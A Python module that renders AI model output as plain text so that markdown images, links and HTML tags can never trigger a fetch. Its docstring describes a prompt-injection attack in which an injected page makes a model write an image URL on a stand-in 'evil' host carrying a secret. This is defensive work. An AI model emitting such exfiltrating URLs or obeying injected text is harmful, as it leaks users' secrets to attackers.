"""Render model text for display so that nothing in it is ever fetched.

Markdown images are the classic exfiltration path: an injected page makes the model
write ``![](https://evil/?q=<secret>)`` and the viewer fetches the URL. The TUI and
reports show model text through :func:`render_safe`, which turns every construct
that a renderer would fetch or follow into plain text:

* ``![alt](url)`` and ``![alt][ref]`` → ``[image: alt <url>]``;
* ``[text](url)`` → ``text <url>``; reference definitions ``[ref]: url`` → ``[ref] <url>``;
* HTML tags (``<img src>``, ``<iframe>``, ``<script>``, ``<link>`` …) → their text
  with the angle brackets replaced (``‹img src=…›``); autolinks ``<https://…>`` → the URL.

URLs are shown, never removed, so a person can still see where a link points;
the output contains no markdown image, link or HTML syntax, so rendering it again as
markdown fetches nothing. Not covered: terminals that auto-link bare URLs on click
(a person's click is a decision, not an automatic fetch).
"""

from __future__ import annotations

import re

IMAGE_INLINE = re.compile(r"!\[([^\]]*)\]\(\s*<?([^)\s>]*)>?(?:\s+[\"'][^)]*[\"'])?\s*\)")
IMAGE_REF = re.compile(r"!\[([^\]]*)\]\[([^\]]*)\]")
LINK_INLINE = re.compile(r"\[([^\]]*)\]\(\s*<?([^)\s>]*)>?(?:\s+[\"'][^)]*[\"'])?\s*\)")
REF_DEFINITION = re.compile(r"^\s{0,3}\[([^\]]+)\]:\s*<?(\S+?)>?(?:\s+.*)?$", re.MULTILINE)
AUTOLINK = re.compile(r"<((?:https?|ftp|data|file)[^>\s]*)>", re.IGNORECASE)
HTML_TAG = re.compile(r"<(/?[A-Za-z!][^>]*)>")


def render_safe(markdown: str) -> str:
    """Model text as plain text: images and links shown as text, nothing fetchable left."""
    definitions = {m.group(1).lower(): m.group(2) for m in REF_DEFINITION.finditer(markdown)}
    text = REF_DEFINITION.sub(lambda m: f"[{m.group(1)}] <{m.group(2)}>", markdown)
    text = IMAGE_INLINE.sub(lambda m: _image(m.group(1), m.group(2)), text)
    text = IMAGE_REF.sub(lambda m: _image(m.group(1), definitions.get((m.group(2) or m.group(1)).lower(), "")), text)
    text = LINK_INLINE.sub(lambda m: f"{m.group(1)} \u2039{m.group(2)}\u203a", text)
    text = AUTOLINK.sub(lambda m: m.group(1), text)
    text = HTML_TAG.sub(lambda m: "\u2039" + m.group(1) + "\u203a", text)
    text = text.replace("<", "\u2039").replace(">", "\u203a")  # what is left: no tag can re-form
    return text.replace("![", "!\u200b[")  # an image opener that survived nesting stays inert


def _image(alt: str, url: str) -> str:
    alt = alt.replace("[", "(").replace("]", ")")
    return f"[image: {alt} \u2039{url}\u203a]" if url else f"[image: {alt}]"
